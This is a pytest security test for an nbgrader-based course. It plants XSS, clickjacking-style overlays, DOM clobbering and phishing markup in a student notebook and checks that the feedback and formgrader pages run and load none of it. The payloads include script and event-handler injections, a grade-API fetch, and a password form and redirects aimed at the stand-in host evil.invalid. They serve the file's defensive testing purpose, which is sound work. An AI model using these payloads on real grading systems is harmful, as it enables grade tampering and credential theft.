"""A submission is hostile content too: the pages built from it (its feedback, and the formgrader's view of
it that the instructor opens, logged in) run none of its code, in a real browser.

The attacker's notebook carries scripts where a notebook can: a markdown cell, the written answer the
instructor grades by hand, and the HTML, SVG and JavaScript outputs of a code cell. Each payload sets
`window.__pwned` and tries to change the grade through the formgrader's API; the test looks in the page
and in the gradebook.

It also tries to redress both pages (REDRESS): to lay its own content over the page (an image whose size
metadata adds a style, inline styles and a page class that position), to send the instructor elsewhere
(`<base>`, `<meta http-equiv=refresh>`, a form with a password field sent to another site, `javascript:`
and `data:` links, a plain phishing link) and to load remote images. Nothing it lays out is positioned,
the page stays where it is, no request leaves for another site, and every link it shows is marked as the
student's, with its address (course/plugins/pages.py).
"""
import re
import shutil
import time

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_raw_cell
from nbgrader.api import Gradebook

from course import classroom, settings
from support.services import jupyter

# what the pages keep of a submission's outputs and markdown, which no PyTorch build changes: .ci/run runs it once,
# under the CUDA build, whose run is the shorter without it (as test_instructor_workflow.py)
pytestmark = pytest.mark.ci_cuda_build_only

ASSIGNMENT = "a1_tensor_to"
WRITTEN = "written_to_vs_module"
ATTACKER, CONTROL = "attacker", "control"
SET_PWNED = "window.__pwned=1;fetch('/formgrader/api/grades').catch(()=>0)"
PAYLOAD = (f'<b>visible words</b><script>{SET_PWNED}</script><img src="x" onerror="{SET_PWNED}">'
           f'<a id="js-link" href="javascript:{SET_PWNED}">a link</a><svg onload="{SET_PWNED}"><circle r="5"/></svg>'
           f'<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>'
           f'<details open ontoggle="{SET_PWNED}"><summary>s</summary></details>')
OUTPUTS = f'''
from IPython.display import HTML, SVG, Javascript, display
display(HTML({PAYLOAD!r}))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned=1"><script>window.__pwned=1</script></svg>'))
display(Javascript("window.__pwned = 1"))
print("visible output")
'''

EVIL = "http://evil.invalid"  # nothing may reach it (or try to)
OVER_THE_PAGE = "position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999"
REDRESS_MARKDOWN = f"""## Redress

![remote]({EVIL}/markdown.png) [phishing link]({EVIL}/login) [js link](javascript:window.__pwned=1) [data link](data:text/html,x)

<div style="{OVER_THE_PAGE}" class="navbar-fixed-top">Your score: 100 / 100</div>
<style>@import url({EVIL}/x.css); .cell {{ display: none }}</style>
<base href="{EVIL}/">
<meta http-equiv="refresh" content="0;url={EVIL}/">
<form action="{EVIL}/steal"><input type="password" name="password"><button>Log in</button></form>
<img src="{EVIL}/tag.png">
"""
# headings Markdown names as the test cells' grade ids: the formgrader bound every test's grade to the first element
# of that id, in the written answer, whose "Full credit" gave an unanswered notebook full marks
TEST_IDS = [grade_id for grade_id in classroom.max_points(ASSIGNMENT) if grade_id.startswith("test_")]
CLOBBERING = "".join(f"\n\n###### {grade_id}" for grade_id in TEST_IDS)
RAW_LINK = f'<a href="{EVIL}/login?next=feedback">Your grade could not be shown: sign in again</a>'
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
REDRESS_OUTPUTS = f'''
from IPython.display import HTML, Markdown, display
display({{"image/png": {PNG!r}}}, raw=True, metadata={{
    "image/png": {{"width": "1 style={OVER_THE_PAGE} id=redress-image", "height": 1}},
    "filenames": {{"image/png": "{EVIL}/filename.png"}}}})
display(HTML('<div style="{OVER_THE_PAGE}" class="navbar-fixed-top">Your score: 100</div>'
             '<a href="{EVIL}/login">log in again</a> <a href="data:text/html,x">data link</a>'))
display(Markdown("![remote]({EVIL}/output.png) [phishing output link]({EVIL}/output)"))
'''


@pytest.fixture(scope="module")
def graded(course_folder):
    root = course_folder(ASSIGNMENT, "hostile-pages")
    classroom.submit(root, ASSIGNMENT, CONTROL, classroom.solved_notebook(root, ASSIGNMENT))
    notebook = classroom.solved_notebook(root, ASSIGNMENT)
    for cell in notebook.cells:
        if classroom.grade_id(cell) == WRITTEN:
            cell.source = "Tensor.to returns a new tensor. " + PAYLOAD + CLOBBERING
    imports = next(i for i, c in enumerate(notebook.cells) if classroom.grade_id(c) == "imports")
    notebook.cells.insert(imports + 1, new_markdown_cell("# My notes\n\n" + PAYLOAD + CLOBBERING))
    notebook.cells.insert(imports + 2, new_code_cell(OUTPUTS.strip()))
    notebook.cells.insert(imports + 3, new_markdown_cell(REDRESS_MARKDOWN))
    notebook.cells.insert(imports + 4, new_code_cell(REDRESS_OUTPUTS.strip()))
    for raw_mimetype in ("text/html", ""):  # written into the page outside every cell, where no mark reached
        notebook.cells.insert(imports + 5, new_raw_cell(RAW_LINK, metadata={"raw_mimetype": raw_mimetype}))
    classroom.submit(root, ASSIGNMENT, ATTACKER, notebook)
    classroom.nbgrader(root, "autograde", ASSIGNMENT)
    classroom.nbgrader(root, "generate_feedback", ASSIGNMENT, "--RequireHandGrading.allow_ungraded=True")
    return root


def assert_nothing_ran(page):
    page.wait_for_timeout(1500)  # onload, onerror and ontoggle fire as the page settles
    links = page.locator("#js-link")
    if links.count():
        links.first.dispatch_event("click")  # under anything laid over it (the sanitiser off)
        page.wait_for_timeout(300)
    assert page.evaluate("() => window.__pwned") is None


def assert_nothing_active_left(page):
    """What the sanitiser removed: in the notebook's cells (the formgrader's own controls around them
    have handlers of their own), no handler attribute, `javascript:` URL, frame or script."""
    active = page.evaluate("""() => [...document.querySelectorAll('.cell *')]
        .filter(e => [...e.attributes].some(a => a.name.startsWith('on') ||
                                                   /^\\s*javascript:/i.test(a.value)))
        .map(e => e.outerHTML.slice(0, 120))""")
    assert active == []
    assert page.locator(".cell iframe, .cell script").count() == 0


def watch_for_other_sites(page) -> list:
    """Every request the page makes to another site (refused, so the test never depends on a network)."""
    tried = []
    page.route(f"{EVIL}/**", lambda route: (tried.append(route.request.url), route.abort()))
    return tried


def assert_not_redressed(page, tried: list):
    """Nothing of the submission laid over the page, led it elsewhere or loaded from another site; its links
    marked as the student's."""
    address = page.url
    page.wait_for_timeout(1500)  # a <meta refresh> of 0 s would have left by now
    assert page.url == address and page.evaluate("() => document.baseURI") == address
    shown = ".rendered_html, .output_subarea"  # where a submission's cells and outputs are laid out
    positioned = page.evaluate(f"""() => [...document.querySelectorAll('{shown}')]
        .flatMap(area => [area, ...area.querySelectorAll('*')])
        .filter(e => getComputedStyle(e).position !== 'static' || e.hasAttribute('style') && !/^text-align/.test(e.getAttribute('style')))
        .map(e => e.outerHTML.slice(0, 160))""")
    assert positioned == []
    assert page.locator(f"#redress-image, base, :is({shown}) :is(form, input, button, style)").count() == 0
    remote = page.evaluate("() => [...document.querySelectorAll('.cell img[src]')].map(i => i.src).filter(s => !s.startsWith('data:'))")
    assert remote == [] and tried == []
    links = page.evaluate(f"""() => [...document.querySelectorAll('.cell :is({shown}) a[href]:not(.anchor-link)')]
        .map(a => [a.getAttribute('href'), getComputedStyle(a, '::after').content])""")
    assert any(href.startswith(f"{EVIL}/login") for href, _ in links), links
    for href, mark in links:
        assert href.startswith(("http:", "https:", "mailto:")), href
        assert "学生提供的链接" in mark and href in mark, (href, mark)
    assert page.locator('a:has-text("sign in again")').count() == 0  # a raw cell's: shown as its text
    assert page.locator('.rendered_html pre:has-text("sign in again")').count() == 2
    policy = page.locator('meta[http-equiv="Content-Security-Policy"]').get_attribute("content")
    assert "base-uri 'none'" in policy and re.search(r"form-action '(self|none)'", policy), policy


def test_the_feedback_page_runs_nothing_of_the_submission_and_stays_readable(graded, page):
    path = classroom.notebook_path(graded, "feedback", ASSIGNMENT, ATTACKER).with_suffix(".html")
    html = path.read_text("utf-8")
    assert "Content-Security-Policy" in html
    tried = watch_for_other_sites(page)
    page.goto(path.as_uri())
    assert_nothing_ran(page)
    assert_nothing_active_left(page)
    assert_not_redressed(page, tried)
    assert page.get_by_text("visible words").count() >= 1
    assert page.get_by_text("visible output").count() >= 1


# A sanitiser that misses everything (as if the submission had found its blind spot): the page's
# Content-Security-Policy alone must then keep the payload from running (course/plugins/formgrade.py).
SANITISER_OFF = """
c.HTMLExporter.preprocessors = []
c.HTMLExporter.sanitize_html = False
"""


@pytest.mark.parametrize("walls", ["sanitiser and policy", "policy alone"])
def test_the_formgrader_view_of_the_submission_runs_nothing_and_grades_stay(graded, page, tmp_path, walls):
    course = tmp_path / "course"
    shutil.copytree(graded, course)
    if walls == "policy alone":
        with open(course / "nbgrader_config.py", "a", encoding="utf-8") as config:
            config.write(SANITISER_OFF)
    db_url = settings.gradebook_url(settings.load(course))
    with Gradebook(db_url) as gradebook:
        before = {student: gradebook.find_submission(ASSIGNMENT, student).score for student in (ATTACKER, CONTROL)}
        submission = gradebook.find_submission_notebook(ASSIGNMENT, ASSIGNMENT, ATTACKER).id
    calls, refused = [], []
    extension = "--ServerApp.jpserver_extensions=nbgrader.server_extensions.formgrader=True"
    with jupyter("server", course, tmp_path, extension) as server:
        page.set_extra_http_headers({"Authorization": f"token {server['token']}"})
        page.on("request", lambda request: calls.append(request.url) if "/api/" in request.url and
                request.method != "GET" else None)
        page.on("console", lambda message: refused.append(message.text)
                if "Content Security Policy" in message.text else None)
        tried = watch_for_other_sites(page)
        page.goto(f"{server['url']}/formgrader/submissions/{submission}/?token={server['token']}")
        # nbgrader's own scripts ran to the end of their start-up (keyboard shortcuts included)
        page.wait_for_function("() => formgrader.loaded && formgrader.grades.loaded && formgrader.comments.loaded",
                               timeout=60_000)
        assert_nothing_ran(page)
        if walls == "policy alone":
            assert page.locator(".cell script").count() > 0  # the payload is in the page, and did not run
            assert refused, "the policy refused nothing"
        else:
            assert_nothing_active_left(page)
            assert_not_redressed(page, tried)
            assert refused == []  # nothing of nbgrader's own page is refused
            clobbered = page.evaluate("ids => ids.filter(id => document.getElementById(id).closest('.rendered_html'))",
                                      TEST_IDS)
            assert clobbered == []  # each test's grade is found in its own cell, not in the student's text
        assert page.get_by_text("visible words").count() >= 1
        time.sleep(1)
    assert calls == []
    with Gradebook(db_url) as gradebook:
        assert {student: gradebook.find_submission(ASSIGNMENT, student).score for student in before} == before


def test_the_submitted_notebook_still_holds_its_payload_for_the_record(graded):
    """Sanitising is for the pages; the graded notebook itself keeps what the student submitted."""
    notebook = nbformat.read(classroom.notebook_path(graded, "autograded", ASSIGNMENT, ATTACKER), as_version=4)
    assert any("<script>" in cell.source for cell in notebook.cells if cell.cell_type == "markdown")


def test_submitted_and_graded_notebooks_open_untrusted_in_jupyterlab(graded, tmp_path):
    """JupyterLab runs a notebook's HTML and JavaScript outputs only when the notebook is trusted, which
    means signed in the opener's own signature database. nbgrader never signs what it collects or grades,
    so the instructor opening either file sees the payload as inert text."""
    from nbformat.sign import NotebookNotary

    instructor = NotebookNotary()  # the signature database JupyterLab reads for this user, who ran nbgrader
    for folder in ("submitted", "autograded"):
        notebook = nbformat.read(classroom.notebook_path(graded, folder, ASSIGNMENT, ATTACKER), as_version=4)
        assert not instructor.check_signature(notebook), folder
    signer = NotebookNotary(data_dir=str(tmp_path))  # a notebook that was signed is seen as trusted
    signer.sign(notebook)
    assert signer.check_signature(notebook)
